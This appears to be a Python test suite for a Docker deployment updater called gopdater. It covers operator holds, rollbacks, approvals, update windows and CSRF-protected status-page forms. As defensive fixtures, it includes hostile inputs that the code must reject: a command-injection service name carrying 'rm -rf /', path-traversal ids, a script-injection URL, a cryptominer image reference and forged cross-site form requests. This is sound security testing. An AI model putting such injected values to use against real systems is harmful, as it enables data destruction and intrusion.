        for name, text in (("PUBLIC_URL", "ftp://x"), ("PUBLIC_URL", "https://user:pw@x"), ("PUBLIC_URL", "x"),
                           ("PUBLIC_URL", 'https://x/"><script>'), ("APPROVE_TIMEOUT", "0"), ("APPROVE", "maybe")):
            with self.subTest(name=name, text=text), self.assertRaises(gopdater.ConfigError):
                make_config(**{name: text})
        self.assertEqual(make_config(PUBLIC_URL="https://deploy.example/").public_url, "https://deploy.example")


class OperatorActionsTest(unittest.TestCase):
    """Each action by the Bearer token, in each state of its service or deployment."""

    def rig(self, **env):
        return Rig(self, **env)

    def run_all(self, rig):
        rig.start_worker()
        self.assertTrue(rig.queue.wait_idle(10), "the queue ran dry")

    def test_hold_and_resume_in_each_state(self):
        """(action, held before) -> status, held after; an unknown service is 404; each is kept in the history."""
        cases = [("hold", False, 200, True), ("hold", True, 409, True), ("resume", True, 200, False),
                 ("resume", False, 409, False)]
        for action, held, status, held_after in cases:
            with self.subTest(action=action, held=held):
                rig = self.rig()
                with self.assertLogs("gopdater", "INFO"):
                    if held:
                        act(rig, "/services/demo/site/hold")
                    code, reply, _ = act(rig, f"/services/demo/site/{action}")
                self.assertEqual(code, status, reply)
                self.assertEqual(SITE in rig.app.desk.holds(), held_after)
        rig = self.rig()
        for path in ("/services/demo/nope/hold", "/services/other/site/resume", "/deployments/0123456789ab/approve"):
            with self.subTest(path=path):
                self.assertEqual(act(rig, path)[0], 404)
        for path in ("/services/demo/site/explode", "/services/demo/../hold", "/deployments/xyz/approve",
                     "/deployments/0123456789ab/hold", "/services/demo/site/approve"):
            with self.subTest(path=path):
                self.assertEqual(act(rig, path)[0], 404)

    def test_a_held_service_ignores_pushes_and_reconciling_until_resumed(self):
        """While held, a push answers 200 ignored ("held since ..."), as reconciling's submit finds nothing; after
        resume a push is accepted. Hold and resume are each notified with the operator as trigger."""
        rig = self.rig(NOTIFY_URL="http://127.0.0.1:9/hook", NOTIFY_ON="held,resumed,updated")
        with self.assertLogs("gopdater", "INFO"):
            act(rig, "/services/demo/site/hold")
            code, reply, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
            self.assertEqual((code, reply["status"]), (200, "ignored"))
            self.assertIn("demo/site: held since", reply["reason"])
            self.assertEqual(rig.queue.submit(gopdater.PushEvent("reconcile", gopdater.parse_reference(
                "acme/site:latest"))), [])
            act(rig, "/services/demo/site/resume")
            self.assertEqual(rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))[0], 202)
        self.assertEqual([(body["result"], body["trigger"], body["action"]) for _, body in rig.notices],
                         [("held", "operator", "hold"), ("resumed", "operator", "resume")])
        self.assertEqual([v["state"] for v in rig.queue.views()][1:], ["resumed", "held"])

    def test_update_now_runs_held_outside_its_window_and_unapproved(self):
        """Update now is a push of the tag the service runs, gated by nothing: it runs at once, trigger operator."""
        rig = self.rig(UPDATE_WINDOW="Sat 02:00-03:00", APPROVE=1)
        with self.assertLogs("gopdater", "INFO"):
            act(rig, "/services/demo/site/hold")
            code, reply, _ = act(rig, "/services/demo/site/update")
            self.assertEqual(code, 202, reply)
            self.run_all(rig)
        view = next(v for v in rig.queue.views() if v["id"] == reply["id"])
        self.assertEqual((view["state"], view["trigger"], view["action"]), ("updated", "operator", "update"))
        self.assertEqual(rig.fake.containers[next(iter(rig.fake.containers))]["image_id"], NEW_ID)

    def test_rollback_goes_back_to_the_previous_image_and_a_second_goes_forward(self):
        """After an update, rollback recreates the service on the image it ran before (kept, not removed), through
        the journal and the health gate; the image it left is kept in turn."""
        rig = self.rig()
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "updated")
            rig.fake.calls.clear()
            code, reply, _ = act(rig, "/services/demo/site/rollback")
            self.assertEqual(code, 202, reply)
            self.run_all(rig)
        view = next(v for v in rig.queue.views() if v["id"] == reply["id"])
        self.assertEqual((view["state"], view["action"], view["trigger"]), ("updated", "rollback", "operator"))
        self.assertEqual(rig.fake.mutating_calls(), [
            ["docker", "tag", OLD_ID, "acme/site:latest"], ["docker", "stop", "-t", "10", "demo-site-1"],
            ["docker", "rm", "demo-site-1"], ["docker", "compose", "up", "-d", "--no-deps", "site"]])
        self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [OLD_ID])
        self.assertEqual(rig.journal.previous("compose:demo/site"), gopdater.Previous(NEW_ID))
        self.assertEqual([s["step"] for s in view["steps"]][:5], ["inspect", "pull", "stop", "remove", "up"])
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(act(rig, "/services/demo/site/rollback")[0], 202)
            self.run_all(rig)
        self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [NEW_ID])
        self.assertEqual(rig.journal.previous("compose:demo/site"), gopdater.Previous(OLD_ID))

    def test_rollback_of_a_tracked_service_writes_its_env_file_back(self):
        """A service following versions goes 1.4.2 -> 1.4.3 by a push; the rollback puts 1.4.2 back in its env file
        and runs its image; the env file's other lines stay."""
        root = tempfile.mkdtemp(prefix="gopdater-rollback-")
        self.addCleanup(shutil.rmtree, root, True)
        fake = FakeDocker(services={"site": "acme/site:1.4.2"}, root=root)
        fake.track("demo", "site", SITE_RAW, "# tags\nSITE_TAG=1.4.2\n", "minor", TRACKED_VERSIONS)
        rig = Rig(self, fake, COMPOSE_FILE=os.path.join(root, "demo", "compose.yaml"))
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy("docker.io/acme/site:1.4.3").state, "updated")
            self.assertEqual(fake.env_text("demo"), "# tags\nSITE_TAG=1.4.3\n")
            code, reply, _ = act(rig, "/services/demo/site/rollback")
            self.run_all(rig)
        view = next(v for v in rig.queue.views() if v["id"] == reply["id"])
        self.assertEqual((view["state"], view["old_tag"], view["new_tag"]), ("updated", "1.4.3", "1.4.2"))
        self.assertEqual(fake.env_text("demo"), "# tags\nSITE_TAG=1.4.2\n")
        self.assertEqual([c["image_id"] for c in fake.containers.values()], [OLD_ID])

    def test_rollback_of_one_service_of_a_group_takes_the_group_back_as_one(self):
        """web and worker run one image and were updated as one: rolling back web takes the worker back too, in
        one deployment; when the worker cannot run the previous image, both stay on the new one (no mixed
        versions either way)."""
        for worker_runs_old, state, image in ((True, "updated", OLD_ID), (False, "rolled-back", NEW_ID)):
            with self.subTest(worker_runs_old=worker_runs_old):
                fake = FakeDocker(services=dict(GROUP))
                rig = Rig(self, fake)
                with self.assertLogs("gopdater", "INFO"):
                    self.assertEqual(rig.deploy().state, "updated")
                    if not worker_runs_old:
                        fake.cannot_run.add(("worker", OLD_ID))
                    code, reply, _ = act(rig, "/services/demo/web/rollback")
                    self.assertEqual(code, 202, reply)
                    self.run_all(rig)
                view = next(v for v in rig.queue.views() if v["id"] == reply["id"])
                self.assertEqual(([m["service"] for m in view["services"]], view["state"]), (["web", "worker"], state))
                self.assertEqual({c["service"]: c["image_id"] for c in fake.containers.values()},
                                 {"web": image, "worker": image})

    def test_rollback_to_an_image_that_fails_puts_back_what_ran(self):
        """The previous image no longer runs here: the rollback ends rolled-back, the service on what it ran."""
        rig = self.rig()
        with self.assertLogs("gopdater", "INFO"):
            rig.deploy()
            rig.fake.behaviour[OLD_ID] = "crash"
            code, reply, _ = act(rig, "/services/demo/site/rollback")
            self.run_all(rig)
        view = next(v for v in rig.queue.views() if v["id"] == reply["id"])
        self.assertEqual(view["state"], "rolled-back")
        self.assertEqual([c["image_id"] for c in rig.fake.containers.values()], [NEW_ID])

    def test_rollback_is_refused_without_a_previous_image_or_beside_a_deployment(self):
        """(state) -> 409 with the reason: none kept; a deployment of its project queued; one waiting."""
        rig = self.rig()
        code, reply, _ = act(rig, "/services/demo/site/rollback")
        self.assertEqual((code, reply["status"]), (409, "error"))
        self.assertIn("no previous image is kept", reply["reason"])
        rig.kept_before(OLD_ID)
        rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
        code, reply, _ = act(rig, "/services/demo/site/rollback")
        self.assertEqual(code, 409)
        self.assertIn("is queued: roll back once it has ended", reply["reason"])
        rig = self.rig(APPROVE=1)
        rig.kept_before(OLD_ID)
        with self.assertLogs("gopdater", "INFO"):
            rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
        code, reply, _ = act(rig, "/services/demo/site/rollback")
        self.assertEqual(code, 409)
        self.assertIn("is waiting", reply["reason"])

    def test_actions_while_a_deployment_runs(self):
        """While a push's deployment runs: rollback, approve and reject are 409; hold takes effect for the next
        push; update now joins nothing running and queues one more."""
        rig = self.rig()
        rig.kept_before(OLD_ID)
        gate = rig.fake.hold(lambda argv, env: argv[:3] == ["docker", "compose", "up"])
        with self.assertLogs("gopdater", "INFO"):
            _, accepted, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
            thread = threading.Thread(target=rig.queue.run_next, daemon=True)
            thread.start()
            self.addCleanup(thread.join, 10)
            self.assertTrue(gate.started.wait(10), "the deployment reached compose up")
            cases = [("/services/demo/site/rollback", 409, "is running: roll back once it has ended"),
                     (f"/deployments/{accepted['id']}/approve", 409, "is running: it does not wait"),
                     (f"/deployments/{accepted['id']}/reject", 409, "is running: it does not wait"),
                     ("/services/demo/site/hold", 200, "held"), ("/services/demo/site/update", 202, "queued")]
            for path, status, reason in cases:
                with self.subTest(path=path):
                    code, reply, _ = act(rig, path)
                    self.assertEqual(code, status, reply)
                    self.assertIn(reason, reply["reason"])
            gate.let_go()
            thread.join(10)
            self.run_all(rig)
        self.assertEqual([v["state"] for v in rig.queue.views() if v["action"] == "update"], ["up-to-date", "updated"])

    def test_approve_and_reject_in_each_state(self):
        """(gate, action) -> status and the deployment's state after; an ended one is 409."""
        cases = [({"APPROVE": 1}, "approve", 200, "updated"), ({"APPROVE": 1}, "reject", 200, "rejected"),
                 ({"UPDATE_WINDOW": "Sat 02:00-03:00"}, "approve", 409, "waiting"),
                 ({"UPDATE_WINDOW": "Sat 02:00-03:00"}, "reject", 200, "rejected"), ({}, "approve", 409, "updated")]
        for env, action, status, state in cases:
            with self.subTest(env=env, action=action):
                rig = self.rig(**env)
                with self.assertLogs("gopdater", "INFO"):
                    _, accepted, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
                    if not env:
                        self.run_all(rig)
                    code, reply, _ = act(rig, f"/deployments/{accepted['id']}/{action}")
                    self.run_all(rig)
                self.assertEqual(code, status, reply)
                self.assertEqual(rig.queue.views()[-1]["state"] if env else rig.queue.views()[0]["state"], state)


class WaitingTest(unittest.TestCase):
    """Deployments that wait for their window or for approval: run when it opens, joined by a later push, expired,
    told, and kept across a restart."""

    def test_a_push_outside_the_window_waits_and_runs_when_it_opens(self):
        """202, waiting with when it runs; a later push joins it (one deployment, the newest digest); at the
        window's opening it runs."""
        rig = Rig(self, UPDATE_WINDOW="Mon 13:00-14:00")
        with self.assertLogs("gopdater", "INFO"):
            code, first, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
            self.assertEqual(code, 202)
            code, second, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
            self.assertEqual(second["id"], first["id"])
            (view,) = rig.queue.views()
            self.assertEqual((view["state"], view["hooks"], view["waiting"]["runs_at"]),
                             ("waiting", 2, "2026-12-07T13:00:00"))
            self.assertIsNone(rig.queue.run_next(), "nothing runs before the window opens")
            rig.wall = datetime.datetime(2026, 12, 7, 13, 0)
            self.assertEqual(rig.queue.run_next().state, "updated")

    def test_a_service_window_label_overrides_the_setting_and_an_invalid_one_never_opens(self):
        """gopdater.window on the service wins over UPDATE_WINDOW; an invalid label waits and says why."""
        for label, state in (("Mon 11:00-13:00", "updated"), ("Mon 13:00-14:00", "waiting"),
                             ("whenever", "waiting")):
            with self.subTest(label=label):
                fake = FakeDocker()
                fake.file_labels[("demo", "site")] = {"gopdater.window": label}
                rig = Rig(self, fake, UPDATE_WINDOW="Sat 01:00-02:00")
                with self.assertLogs("gopdater", "INFO"):
                    rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
                    rig.queue.run_next()
                (view,) = rig.queue.views()
                self.assertEqual(view["state"], state)
                if label == "whenever":
                    self.assertIn("gopdater.window label is invalid", view["waiting"]["problem"])

    def test_approval_is_asked_by_setting_or_label_and_expires(self):
        """APPROVE=1 or gopdater.approve=true: waiting for approval, told with the link to PUBLIC_URL/status;
        after APPROVE_TIMEOUT it ends expired, told."""
        fake = FakeDocker()
        fake.file_labels[("demo", "site")] = {"gopdater.approve": "true"}
        rig = Rig(self, fake, APPROVE_TIMEOUT=3600, PUBLIC_URL="https://deploy.example",
                  NOTIFY_URL="http://127.0.0.1:9/hook")
        with self.assertLogs("gopdater", "INFO"):
            rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
            (view,) = rig.queue.views()
            self.assertEqual((view["state"], view["waiting"]["for"], view["waiting"]["expires"]),
                             ("waiting", "approval", "2026-12-07T13:00:00"))
            rig.wall = datetime.datetime(2026, 12, 7, 13, 0)
            rig.start_worker()
            self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual(rig.queue.views()[0]["state"], "expired")
        told = [(body["result"], body["text"]) for _, body in rig.notices]
        self.assertEqual([result for result, _ in told], ["waiting", "expired"])
        self.assertIn("approve or reject it at https://deploy.example/status", told[0][1])
        self.assertEqual(rig.fake.mutating_calls(), [])

    def test_holds_and_waiting_deployments_survive_a_restart(self):
        """A hold and a deployment waiting for approval come back after a restart: same id, still waiting;
        approved before the restart and waiting for its window, it runs when that opens without a new approval."""
        rig = Rig(self, APPROVE=1, UPDATE_WINDOW="Mon 13:00-14:00")
        with self.assertLogs("gopdater", "INFO"):
            _, accepted, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
            self.assertEqual(act(rig, f"/deployments/{accepted['id']}/approve")[0], 200)
            act(rig, "/services/demo/site/hold")
            rig.queue.stop(1)
            queue = rig.new_queue(gopdater.Journal(rig.state_dir))
            queue.restore()
            desk = gopdater.Desk(queue)
            self.assertEqual(list(desk.holds()), [SITE])
            waiting = [v for v in queue.views() if v["id"] == accepted["id"]]
            self.assertEqual([(v["state"], v["waiting"]["for"]) for v in waiting], [("waiting", "update window")])
            rig.wall = datetime.datetime(2026, 12, 7, 13, 30)
            self.assertEqual(queue.run_next().id, accepted["id"])
        self.assertEqual([v["id"] for v in queue.views()].count(accepted["id"]), 1, "shown once, as it runs now")

    def test_a_waiting_deployment_that_names_nothing_here_after_a_restart_is_shown_cancelled(self):
        """A deployment that waited when gopdater stopped, for a service no longer run here, is not queued again:
        the history shows it cancelled, not waiting forever."""
        rig = Rig(self, APPROVE=1)
        with self.assertLogs("gopdater", "INFO"):
            _, accepted, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
            rig.queue.stop(1)
            rig.fake.projects["demo"]["site"] = "acme/other:latest"
            rig.fake.images["acme/other:latest"] = OLD_ID
            rig.fake.containers.clear()
            rig.fake.create("demo", "site")
            rig.project.refresh()
            queue = rig.new_queue(gopdater.Journal(rig.state_dir))
            queue.restore()
        self.assertEqual([(v["id"], v["state"]) for v in queue.views()], [(accepted["id"], "cancelled")])

    def test_a_crash_recovery_a_push_joins_waits_for_nothing(self):
        """Started with APPROVE=1 and a window that is closed, the recovery of an update a crash cut off runs at once,
        also when a push of its image joins it: a crash is repaired at the next start, never held back."""
        rig = Rig(self)
        rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
        cut(self, rig, ("docker", "stop"))
        again = Rig(self, rig.fake, STATE_DIR=rig.state_dir, APPROVE=1, UPDATE_WINDOW="Sat 01:00-02:00")
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(again.queue.restore(), 1)
            (joined, coalesced), = again.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference(
                "acme/site")))
            self.assertTrue(coalesced)
            self.assertEqual(joined.state, "queued")
            self.assertEqual(again.queue.run_next().state, "recovered")

    def test_a_crafted_operator_file_names_nothing_that_does_not_run_here(self):
        """Entries of operator.json that are not what gopdater writes, or name an image or service this host does
        not run, are dropped; the well-formed hold stays."""
        rig = Rig(self)
        good = {"id": "0123456789ab", "sender": "dockerhub", "reference": "docker.io/acme/site:latest",
                "digest": None, "kind": "compose", "project": "demo", "services": ["site"],
                "created": "2026-12-07T11:00:00+00:00", "approved": None, "expires": "2026-12-08T11:00:00"}
        bad = [{**good, "id": "../../etc"}, {**good, "reference": "docker.io/evil/miner:latest"},
               {**good, "services": ["site; rm -rf /"]}, {**good, "kind": "shell"}, {**good, "extra": 1},
               {**good, "expires": "soon"}, {**good, "services": []}, "text", None]
        pathlib.Path(rig.state_dir, "operator.json").write_text(json.dumps({
            "version": 1, "holds": [["compose", "demo", "site", "2026-12-07T10:00:00+00:00"], ["compose", "x y", "z", 1],
                                    "junk"], "waiting": [*bad, good]}))
        queue = rig.new_queue(gopdater.Journal(rig.state_dir))
        with self.assertLogs("gopdater", "INFO"):
            queue.restore()
        self.assertEqual([v["id"] for v in queue.views()], ["0123456789ab"])
        self.assertEqual(list(gopdater.Desk(queue).holds()), [SITE])

    def test_a_crafted_journal_keeps_no_previous_image_that_is_a_reference(self):
        """journal.json's previous images: only image ids are kept (a reference could name any image)."""
        rig = Rig(self)
        pathlib.Path(rig.state_dir, "journal.json").write_text(json.dumps({"version": 1, "updates": {}, "previous": {
            "compose:demo/site": {"image": "docker.io/evil/miner:latest", "tag": None},
            "compose:demo/web": {"image": OLD_ID, "tag": "../x"}, "compose:demo/api": {"image": OLD_ID, "tag": "1.2"}}}))
        journal = gopdater.Journal(rig.state_dir)
        journal.load()
        self.assertEqual([journal.previous(f"compose:demo/{s}") for s in ("site", "web", "api")],
                         [None, None, gopdater.Previous(OLD_ID, "1.2")])


class OperatorFormsTest(unittest.TestCase):
    """The status page's forms: Basic credentials and a token, never from another site, bounded, 303 back."""

    def test_a_form_with_its_token_acts_and_answers_303_to_the_status_page(self):
        """Hold by the form: 303 with Location /status; the page then shows held and a Resume button."""
        rig = Rig(self)
        with self.assertLogs("gopdater", "INFO"):
            code, _, hdrs = form_post(rig, "hold", "demo/site")
        self.assertEqual((code, dict(hdrs).get("Location")), (303, "/status"))
        page = rig.app.handle("GET", "/status", headers(Authorization=BASIC), b"").payload
        self.assertIn('action="/services/demo/site/resume"', page)
        self.assertNotIn('action="/services/demo/site/hold"', page)

    def test_a_forged_stale_or_foreign_form_is_refused_and_changes_nothing(self):
        """Each -> 403 (413 for an oversized body); the service stays unheld."""
        now = int(1_700_000_000)
        cases = {
            "no token": dict(token=""),
            "a token for another action": dict(token=gopdater.form_token(SECRET.encode(), "resume", "demo/site", now)),
            "a token for another service": dict(token=gopdater.form_token(SECRET.encode(), "hold", "demo/web", now)),
            "a stale token": dict(token=gopdater.form_token(SECRET.encode(), "hold", "demo/site", now - 601)),
            "a token from the future": dict(token=gopdater.form_token(SECRET.encode(), "hold", "demo/site", now + 60)),
            "a token made with another key": dict(token=gopdater.form_token(b"guessed", "hold", "demo/site", now)),
            "a foreign Origin": dict(Origin="https://evil.example"),
            "Origin null": dict(Origin="null"),
            "Sec-Fetch-Site cross-site": dict(Sec_Fetch_Site="cross-site"),
            "not a form": dict(Content_Type="application/json"),
            "too many fields": dict(fields={f"f{i}": "x" for i in range(9)}),
        }
        for name, change in cases.items():
            with self.subTest(name):
                rig = Rig(self)
                code, reply, _ = form_post(rig, "hold", "demo/site", **change)
                self.assertEqual(code, 403, reply)
                self.assertEqual(rig.app.desk.holds(), {})
        rig = Rig(self)
        body = b"token=" + b"x" * 5000
        code, reply, _ = rig.post("/services/demo/site/hold", body, Authorization=BASIC, Content_Type=FORM)
        self.assertEqual((code, reply["reason"]), (413, "an action's body is over 4 KiB"))
        for auth in ("", "Basic " + base64.b64encode(b"ops:wrong").decode(), "Bearer wrong"):
            with self.subTest(auth=auth):
                self.assertEqual(act(rig, "/services/demo/site/hold", auth=auth)[0], 403)
        self.assertEqual(rig.app.desk.holds(), {})

    def test_a_form_rollback_asks_for_confirmation_first(self):
        """Roll back by the form: a confirmation page (its own token, confirm=yes), and only then the rollback."""
        rig = Rig(self)
        rig.kept_before(OLD_ID)
        code, page, hdrs = form_post(rig, "rollback", "demo/site")
        self.assertEqual(code, 200)
        self.assertIn('<input type=hidden name=confirm value=yes>', page)
        self.assertIn("form-action 'self'", dict(hdrs)["Content-Security-Policy"])
        self.assertEqual(rig.queue.views(), [])
        token = re.search(r'name=token value="([^"]+)"', page).group(1)
        with self.assertLogs("gopdater", "INFO"):
            code, _, hdrs = form_post(rig, "rollback", "demo/site", token=token, fields={"confirm": "yes"})
        self.assertEqual((code, dict(hdrs)["Location"]), (303, "/status"))
        self.assertEqual([v["action"] for v in rig.queue.views()], ["rollback"])

    def test_the_page_shows_each_services_buttons_and_each_waiting_deployments(self):
        """Hold, Update now and Roll back (only where a previous image is kept) per service, each with a token that
        holds for its action; Approve and Reject for a deployment waiting for approval; all escaped."""
        rig = Rig(self, APPROVE=1)
        rig.kept_before(OLD_ID)
        with self.assertLogs("gopdater", "INFO"):
            _, accepted, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
        page = rig.app.handle("GET", "/status", headers(Authorization=BASIC), b"").payload
        forms = dict(re.findall(r'<form class=b method=post action="([^"]+)"><input type=hidden name=token '
                                r'value="([^"]+)">', page))
        self.assertEqual(sorted(forms), sorted([
            "/services/demo/site/hold", "/services/demo/site/update", "/services/demo/site/rollback",
            f"/deployments/{accepted['id']}/approve", f"/deployments/{accepted['id']}/reject"]))
        for path, token in forms.items():
            *_, target, action = path.rsplit("/", 2) if "deployments" in path else ["", "demo/site",
                                                                                    path.rsplit("/", 1)[1]]
            with self.subTest(path=path):
                self.assertTrue(gopdater.token_holds(SECRET.encode(), token, action, target, rig.app.clock()))
        self.assertIn("for approval until 2026-12-08 12:00:00", page)
        self.assertNotIn("<script", page)
